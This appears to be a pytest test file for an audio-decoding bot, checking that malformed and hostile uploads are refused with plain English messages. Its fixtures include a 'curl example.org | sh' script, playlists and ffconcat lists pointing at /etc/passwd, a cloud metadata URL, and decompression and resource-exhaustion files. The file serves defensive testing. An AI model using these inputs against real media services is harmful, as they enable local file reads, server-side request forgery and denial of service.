"""The table of hostile and hopeless files, each with the sentence its sender reads."""

import io
import random
import re
import struct
import zipfile
from typing import Any

import numpy as np
import pytest
from PIL import Image

from bot.audio import decode as decode_module
from bot.audio.decode import DecodeLimits, decode
from bot.errors import AudioRejected
from tests.support import sounds
from tests.support.english import english, refused
from tests.support.sounds import altered, floats, linked_elsewhere, made, video, wav


def png() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (8, 8)).save(file, "PNG")
    return file.getvalue()


def archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as zipped:
        zipped.writestr("song.wav", wav())
    return file.getvalue()


def random_bytes() -> bytes:
    return random.Random(0).randbytes(50_000)


def half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def huge_box() -> bytes:
    return struct.pack(">I4sQ", 1, b"ftyp", 1 << 62) + bytes(64)


def promising() -> bytes:
    """Its STREAMINFO claims all the samples that 36 bits can count."""
    data = made("flac")
    return data[:22] + b"\xff" * 4 + data[26:]


def many_boxes() -> bytes:
    return made("m4a")[:32] + struct.pack(">I4s", 8, b"free") * 100_000


HLS = b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n/etc/passwd\n#EXT-X-ENDLIST\n"
PLAYLIST, UNKNOWN, NOT_SOUND = "That's a playlist", "don't recognise", "That looks like"
CUT_SHORT, DAMAGED, SILENT = "cut short", "damaged", "no sound"

SEEN_AT_ONCE = {
    "nothing": (b"", "That file is empty"),
    "random bytes": (random_bytes, UNKNOWN),
    "zeros": (bytes(10_000), UNKNOWN),
    "one byte": (b"\xff", UNKNOWN),
    "text": (b"la la la, la la", UNKNOWN),
    "a script": (b"#!/bin/sh\ncurl example.org | sh\n", UNKNOWN),
    "a picture": (png, NOT_SOUND),
    "a phone's picture": (b"\0\0\0\x18ftypheic" + bytes(64), NOT_SOUND),
    "a WebP": (b"RIFF\x20\0\0\0WEBPVP8 " + bytes(32), NOT_SOUND),
    "an archive": (archive, NOT_SOUND),
    "a PDF": (b"%PDF-1.7\n" + bytes(64), NOT_SOUND),
    "notes": (b"MThd\0\0\0\6" + bytes(64), "a MIDI file"),
    "a program": (b"\x7fELF\2\1\1" + bytes(64), NOT_SOUND),
    "an HLS playlist": (HLS, PLAYLIST),
    "an HLS playlist behind a mark": (b"\xef\xbb\xbf\n" + HLS, PLAYLIST),
    "an M3U list": (b"song.mp3\n#EXTINF:1,x\nother.mp3\n", PLAYLIST),
    "an ffconcat list": (b"ffconcat version 1.0\nfile '/etc/passwd'\n", PLAYLIST),
    "a PLS list": (b"[playlist]\nFile1=http://127.0.0.1/\n", PLAYLIST),
    "an SDP session": (b"v=0\no=- 0 0 IN IP4 127.0.0.1\nm=audio 9 RTP/AVP 0\n", PLAYLIST),
    "a DASH manifest": (b"<?xml version='1.0'?><MPD></MPD>", PLAYLIST),
    "a drawing": (b"<?xml version='1.0'?>\n<svg></svg>", UNKNOWN),
    "an address": (b"http://169.254.169.254/latest/meta-data", PLAYLIST),
    "a header-only WAV": (wav(b""), SILENT),
    "a WAV that is cut off": (wav(declared=1 << 20), CUT_SHORT),
    "a WAV of a claimed gigabyte": (wav(declared=1 << 30), CUT_SHORT),
    "a WAV without data": (wav()[:36], CUT_SHORT),
    "a WAV of endless chunks": (b"RIFF\0\0\0\0WAVE" + b"junk\0\0\0\0" * 9999, CUT_SHORT),
    "a WAV at 1 Hz": (wav(rate=1), "1 samples a second"),
    "a WAV at 0 Hz": (wav(rate=0), "0 samples a second"),
    "a WAV at 4 kHz": (wav(rate=4000), "4,000 samples a second"),
    "a WAV at 400 kHz": (wav(rate=400_000), "400,000 samples a second"),
    "a WAV of 9 channels": (wav(channels=9), "9 channels"),
    "a WAV of 0 channels": (wav(channels=0), "0 channels"),
    "a WAV of 65,535 channels": (wav(channels=65_535), "65,535 channels"),
    "a WAV with MP3 inside": (wav(tag=0x55), "coded as MP3"),
    "a WAV with an unknown codec": (wav(tag=0x1234), "coded as number 4660"),
    "a FLAC of four bytes": (b"fLaC", CUT_SHORT),
    "an M4A without its end": (lambda: half(made("m4a")), CUT_SHORT),
    "an M4A without its sound": (
        lambda: half(made("m4a", "-movflags", "+faststart")),
        CUT_SHORT,
    ),
    "an M4A without an index": (lambda: altered(made("m4a"), b"moov", b"free"), CUT_SHORT),
    "an MP4 of one huge box": (huge_box, CUT_SHORT),
    "an MP4 of a million boxes": (many_boxes, CUT_SHORT),
    "an MP4 linked elsewhere": (linked_elsewhere, "another file"),
    "an MP4 with an alias elsewhere": (lambda: linked_elsewhere(b"alis"), "another file"),
    "an MP4 that is protected": (lambda: altered(made("m4a"), b"mp4a", b"enca"), "protected"),
    "a silent MP4": (lambda: video("mp4", sound=False), SILENT),
}  # fmt: skip

SEEN_WHILE_DECODING = {
    "not-a-numbers": (floats(np.nan), "corrupt"),
    "infinity": (floats(np.inf), "corrupt"),
    "minus infinity": (floats(-np.inf), "corrupt"),
    "numbers beyond all reason": (floats(3e38), "corrupt"),
    "half a FLAC": (lambda: half(made("flac")), CUT_SHORT),
    "a FLAC that promises a month": (promising, CUT_SHORT),
    "a FLAC of zeros": (lambda: made("flac")[:100] + bytes(5000), DAMAGED),
    "half an MP3 that says how long it is": (lambda: half(made("mp3", seconds=4)), CUT_SHORT),
    "half an OGG": (lambda: half(made("ogg", "-c:a", "libvorbis")), DAMAGED),
    "an OGG of noise": (lambda: b"OggS" + random_bytes(), DAMAGED),
    "an OGG video without sound": (
        lambda: video("ogg", "-c:v", "libtheora", sound=False),
        SILENT,
    ),
    "a WebM without sound": (
        lambda: video("webm", "-deadline", "realtime", sound=False),
        SILENT,
    ),
    "a WebM with only a head": (lambda: made("webm")[:60], DAMAGED),
    "a codec that is not read": (
        lambda: video("mp4", "-c:v", "mpeg4", "-c:a", "dca", "-strict", "-2"),
        "MP4 or M4A file is coded as DTS, which I can't read",
    ),
    "16 channels in an MP4": (
        lambda: altered(made("mov", "-ac", "16", "-c:a", "pcm_s16le"), b"qt  ", b"isom"),
        "16 channels",
    ),
    "4 kHz in an MP4": (lambda: made("mov", "-ar", "4000", "-c:a", "pcm_s16le"), "4,000 samples"),
    "a FLAC bomb": (sounds.bomb, "longer than 10 min, the most I take"),
    "a blink": (wav(b"\1\1" * 800), "a tenth of a second"),
}  # fmt: skip


def content(entry: Any) -> bytes:
    made: Any = entry() if callable(entry) else entry
    return made


async def sentence(data: bytes, **more) -> str:
    with pytest.raises(AudioRejected) as refusal:
        await decode(data, **more)
    text = english(refusal.value)
    assert re.fullmatch(r"[A-Z].*\.", text)
    assert len(text) <= 220
    assert not re.search(r"ffmpeg|pipe|error|codec|stream|None|bytes", text)
    return text


@pytest.mark.fault(
    fault="a playlist, an archive, a text, a header that lies",
    sees="why it is refused",
    keeps="nothing; no other file is read",
)
@pytest.mark.parametrize("case", SEEN_AT_ONCE)
async def test_it_is_refused_before_anything_is_decoded(case, monkeypatch):
    def never(*_, **__):
        raise AssertionError("a child process was started")

    monkeypatch.setattr(decode_module, "reading", never)
    entry, expected = SEEN_AT_ONCE[case]
    assert expected in await sentence(content(entry))


@pytest.mark.fault(
    fault="a damaged file, NaN or infinite samples, a bomb that promises a month",
    sees="why it is refused",
    keeps="nothing",
)
@pytest.mark.parametrize("case", SEEN_WHILE_DECODING)
async def test_it_is_refused_while_decoding(case):
    entry, expected = SEEN_WHILE_DECODING[case]
    assert expected in await sentence(content(entry))


@pytest.mark.parametrize("case", ["16 channels in an MP4", "4 kHz in an MP4"])
async def test_resampling_does_not_hide_what_is_out_of_range(case):
    entry, expected = SEEN_WHILE_DECODING[case]
    assert expected in await sentence(content(entry), sample_rate=32_000)


async def test_a_file_over_the_size_limit_is_refused():
    text = await sentence(bytes(3_000_000), limits=DecodeLimits(max_bytes=2_000_000))
    assert text.startswith("File too big (3 MB, max 2).")


@pytest.mark.parametrize(
    ("start", "end", "expected"),
    [
        (5.0, None, "ends before 5 s"),
        (5.0, 6.0, "ends before 5 s"),
        (3.0, 2.0, "ends at 2 s, before it starts (3 s)"),
        (2.0, 2.0, "ends at 2 s, before it starts (2 s)"),
        (-1.0, None, "0 s or later"),
        (float("nan"), None, "0 s or later"),
        (0.0, float("inf"), "0 s or later"),
    ],
)
async def test_a_part_outside_the_sound_is_refused(start, end, expected):
    assert expected in await sentence(made("wav"), start=start, end=end)


async def test_a_sound_longer_than_the_limit_is_refused_and_a_part_of_it_is_not():
    limits = DecodeLimits(max_seconds=0.5)
    text = await sentence(made("mp3"), limits=limits)
    assert text.endswith("Pick a part (from, to).")
    assert await sentence(made("mp3"), limits=limits, end=0.9) == text
    assert (await decode(made("mp3"), limits=limits, start=0.5)).seconds <= 0.5


@pytest.mark.fault(
    fault="a sound too long and wide to be held at once",
    sees="why it is refused",
    keeps="the bot's memory",
)
async def test_a_sound_too_wide_to_hold_is_refused():
    limits = DecodeLimits(decoded_bytes=1 << 20)
    text = await sentence(sounds.ACCEPTED["wav, eight channels"](), limits=limits)
    assert text.startswith("Too long for so many channels: I can take 1 s of it")


@pytest.mark.fault(
    fault="a file that takes for ever to decode",
    sees="why it is refused",
    keeps="the bot's time: the decoder is killed",
)
async def test_a_file_that_takes_too_long_is_refused():
    assert "took too long" in await sentence(made("wav"), limits=DecodeLimits(wall_seconds=0.001))


async def test_a_file_that_takes_too_much_work_is_refused():
    limits = DecodeLimits(cpu_seconds=1, max_seconds=1e6, latest_start=1e6)
    hours = made("mp3", "-b:a", "8k", "-ar", "8000")
    frames = hours[len(hours) // 2 :]
    data = hours + frames * (20 * 1024 * 1024 // len(frames))
    assert "took too long" in await sentence(data, limits=limits, start=1e5)


@pytest.mark.fault(
    fault="a part hours into a file, which would be decoded up to there",
    sees="where it may begin",
    keeps="the bot's time: nothing is decoded",
)
async def test_a_part_that_lies_hours_in_is_refused_before_anything_is_decoded(monkeypatch):
    def reading(*_, **__):
        raise AssertionError("it was decoded")

    monkeypatch.setattr(decode_module, "reading", reading)
    assert "a part from the first 1 h" in await sentence(made("mp3"), start=20_000, end=20_010)


@pytest.mark.parametrize(
    "data",
    [
        altered(made("webm"), b"OpusHead\x01", b"OpusHead\xff"),
        altered(made("caf", "-c:a", "alac"), b"\0\0\x10\0\0\x10", b"\xff" * 6),
    ],
    ids=["WebM", "CAF"],
)
async def test_a_coding_that_is_read_and_whose_header_is_broken_is_damage(data):
    with refused(AudioRejected, match="file is damaged"):
        await decode(data)
